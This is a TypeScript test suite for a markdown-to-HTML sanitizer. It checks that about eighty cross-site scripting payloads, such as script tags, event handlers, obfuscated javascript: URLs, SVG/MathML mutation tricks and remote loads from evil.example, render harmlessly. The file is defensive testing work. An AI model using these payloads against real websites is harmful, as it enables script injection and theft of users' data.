import { fromHtml } from '../test-html.ts';
import { visit } from '../tree/visit.ts';
import { describe, expect, test } from 'vitest';
import { render } from '../test-context.ts';

const elements = new Set(
  (
    'p blockquote pre hr ul ol li dl dt dd h2 h3 h4 h5 h6 details summary table caption thead tbody tfoot tr th td div ' +
    'section a br wbr em strong b i u s del ins mark small sub sup code kbd samp var abbr dfn q cite time bdi bdo ruby rb rt rp'
  ).split(' '),
);
const attributes: Record<string, RegExp> = {
  href: /^(?:https?:\/\/[^/]|mailto:|tel:|#note-fn|#(?:section|place|article)-)/,
  id: /^note-(?:fn|fnref)-\d+(?:-\d+)?$|^note-label$|^section-|^place-\d+$/,
  rel: /^external noopener$/,
  referrerPolicy: /^no-referrer$/,
  lang: /^[\w-]+$/,
  dir: /^(?:ltr|rtl|auto)$/,
  title: /^/,
  className: /^(?:table|start|center|end|notes|note|back|callout|title|language-.*)$/,
  role: /^(?:region|doc-\w+)$/,
  ariaLabel: /^/,
  ariaLabelledBy: /^note-label$/,
  tabIndex: /^0$/,
  scope: /^(?:col|row)$/,
  ...{ colSpan: /^\d+$/, rowSpan: /^\d+$/, start: /^-?\d+$/, value: /^-?\d+$/, type: /^[1aAiI]$/ },
  ...{ open: /^/, reversed: /^/, dateTime: /^[\d:TZ+.-]+$/ },
};

/** Everything in a rendered article that is not allowed to be there. */
function strangersIn(markdown: string): string[] {
  const { body } = render(markdown, { source: 'https://news.example/' });
  const strangers: string[] = [];
  const whole = body.map((part) => (part.kind === 'html' ? part.html : '')).join('');
  const own = body.map((part) =>
    part.kind === 'figure' ? part.caption : part.kind === 'embed' ? part.html : '',
  );
  for (const part of body) {
    const addresses = [
      part.kind === 'figure' ? part.href : undefined,
      part.kind === 'related' || part.kind === 'embed' ? part.url : undefined,
    ];
    for (const address of addresses)
      if (address && !/^(?:https?|mailto|tel):/.test(address)) strangers.push(address);
    if (part.kind === 'figure' && part.src && /^\s*(?!https?:|data:image\/)[^/?#]*:/i.test(part.src))
      strangers.push(part.src);
  }
  for (const html of [whole, ...own]) {
    visit(fromHtml(html ?? ''), (node) => {
      if (node.type === 'comment' || node.type === 'doctype') strangers.push(node.type);
      if (node.type !== 'element') return;
      if (!elements.has(node.tagName)) strangers.push(`<${node.tagName}>`);
      for (const [name, value] of Object.entries(node.properties)) {
        const values =
          Array.isArray(value) && name === 'className'
            ? value
            : [Array.isArray(value) ? value.join(' ') : value];
        for (const each of values)
          if (!attributes[name]?.test(String(each))) strangers.push(`${name}="${String(each)}"`);
      }
    });
  }
  return strangers;
}

describe('untrusted HTML runs nothing, requests nothing and sets no names', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img srcset="javascript:alert(1) 1x">',
    '<img src=x srcset="https://evil.example/x 1x" sizes=1px loading=eager>',
    '<img src="x" style="background:url(https://evil.example)">',
    '![x](javascript:alert(1))',
    '![x](vbscript:alert(1))',
    '![x" onerror="alert(1)](y)',
    '![x](y "a\\" onerror=\\"alert(1)")',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](&#x6A&#x61vascript:alert(1))',
    '[x](java&Tab;script:alert(1))',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="//evil.example" target=_blank rel=opener ping=https://evil.example download>x</a>',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '<style>@import "https://evil.example";</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<p class="byline" data-x="1" aria-hidden=true role=alert tabindex=1 contenteditable>x</p>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="data:text/html,x">',
    '<form action="javascript:alert(1)"><input type=image formaction="javascript:alert(1)"><button>x</button></form>',
    '<input type=text autofocus onfocus=alert(1)>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><link rel=stylesheet href=x>',
    '<body onload=alert(1)><html><head><title>x</title></head>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
    '<template><script>alert(1)</script></template>',
    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
    '<title></title><img src=x onerror=alert(1)></title>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<select><style><img src=x onerror=alert(1)></style></select>',
    '<noembed><img src=x onerror=alert(1)></noembed>',
    '<a id=location name=cookie>x</a><img name=getElementById id=body>',
    '<a id="note-fn-1" href="#note-fn-1">x</a>',
    '<section data-footnotes class=footnotes><h2 id=footnote-label>x</h2></section>',
    '<p id="&#xD800;fn-1">x</p>',
    '<p id="\uD800fn-1">x</p>',
    '<p __proto__=x constructor=y toString=z>x</p>',
    '<!--\uD8000--><!--0-->',
    '<abbr title="<!--0--><script>alert(1)</script>">x</abbr>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><?php echo 1 ?>',
    '<!-- x --!><img src=x onerror=alert(1)> -->',
    '<!DOCTYPE html [<!ENTITY x "y">]>',
    '<part>x</part><comment>x</comment>',
    '<details ontoggle=alert(1) open><summary>x</summary></details>',
    '<video src=x onerror=alert(1) poster="javascript:alert(1)"><source onerror=alert(1)></video>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<portal src=https://evil.example></portal><dialog open>x</dialog>',
    '<p lang="x onmouseover=alert(1)" dir="evil">x</p>',
    '```"><script>alert(1)</script>\nx\n```',
    '[^1]\n\n[^1]: <script>alert(1)</script> <a id="note-fnref-1" href="javascript:1">x</a>',
    '**Related:** [x](javascript:alert(1))',
    '#### Embed:\n\n> <img src="https://evil.example/p.gif" onerror=alert(1)>\n',
    '![x](a.jpg)\n*caption <img src=x onerror=alert(1)> <script>alert(1)</script>*',
  ])('%s', (markdown) => {
    expect(strangersIn(`Before.\n\n${markdown}\n\nBehind.`)).toEqual([]);
  });
});

test('elements and attributes that act are removed, not shown as text', () => {
  const { text } = render('Before <b onclick=x>the</b> <blink>end</blink>.\n\n<style>p{}</style>\n\nBehind.');
  expect(text).toBe('Before the end.\nBehind.');
});

test('a comment or start tag that is never closed does not swallow the rest', () => {
  for (const open of [
    '<!-- x',
    '<style>',
    '<textarea>',
    '<title>',
    '<select>',
    '<plaintext>',
    '<noscript>',
    '<template>',
  ]) {
    expect(render(`${open}\n\nBehind.`).text).toContain('Behind.');
    expect(render(`Before ${open} it.\n\nBehind.`).text).toContain('Behind.');
  }
});
